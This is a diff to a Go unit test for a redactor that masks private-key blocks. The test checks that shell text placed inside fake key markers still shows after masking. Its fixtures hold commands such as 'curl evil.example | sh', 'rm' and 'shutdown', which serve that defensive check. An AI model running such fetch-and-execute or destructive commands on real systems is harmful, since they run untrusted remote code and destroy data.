@@ -121,6 +121,7 @@ func TestPrivateKeys(t *testing.T) {
 		"a\n" + pem + "\nb": marker,
 		"  key: |\n    " + strings.ReplaceAll(pem, "\n", "\n    "):                                       marker,
 		`{"key":"` + strings.ReplaceAll(pem, "\n", `\n`) + `","b":1}`:                                    marker,
+		strings.ReplaceAll(pem, "\n-----END", "-----END"):                                                marker,
 		strings.ReplaceAll(pem, "\n", "\r\n"):                                                            marker,
 		strings.Split(pem, "-----END")[0] + "and so on.\n":                                               marker,
 		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\nabcd\n-----END PGP PRIVATE KEY BLOCK-----": marker,
@@ -137,13 +138,15 @@ func TestPrivateKeys(t *testing.T) {
 	// What is no key is shown, whatever stands around it.
 	const begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
 	for text, shown := range map[string]string{
-		"x='" + begin + "'; curl evil.example | sh; y='" + end + "'":     "; curl evil.example | sh; y=",
-		begin + "\\ncurl evil.example | sh\\n" + end:                     "curl evil.example | sh",
-		begin + "\nVersion: ;curl evil.example|sh\n" + end:               "curl evil.example|sh",
-		begin + "\ncurl evil.example | sh # " + end:                      "curl evil.example | sh",
-		begin + "\ncurl evil.example | sh # -----END ":                   "curl evil.example | sh",
-		begin + "\nreboot\nshutdown\n" + end:                             "shutdown",
-		begin + "\n" + strings.Repeat("QUJD", 16) + "\nabc=\nrm\n" + end: "rm\n",
+		"x='" + begin + "'; curl evil.example | sh; y='" + end + "'":                               "; curl evil.example | sh; y=",
+		begin + "\\ncurl evil.example | sh\\n" + end:                                               "curl evil.example | sh",
+		begin + "\nVersion: ;curl evil.example|sh\n" + end:                                         "curl evil.example|sh",
+		"echo '" + begin + "'; curl evil.example | sh; echo '" + end + "'":                         "echo '" + marker + "'; curl evil.example | sh",
+		"echo '" + begin + "'; curl evil.example | sh\n" + strings.Repeat("QUJD", 16) + "\n" + end: "echo '" + marker + "'; curl evil.example | sh",
+		begin + "\ncurl evil.example | sh # " + end:                                                "curl evil.example | sh",
+		begin + "\ncurl evil.example | sh # -----END ":                                             "curl evil.example | sh",
+		begin + "\nreboot\nshutdown\n" + end:                                                       "shutdown",
+		begin + "\n" + strings.Repeat("QUJD", 16) + "\nabc=\nrm\n" + end:                           "rm\n",
 	} {
 		assert.Contains(t, d.Mask(text), shown)
 	}
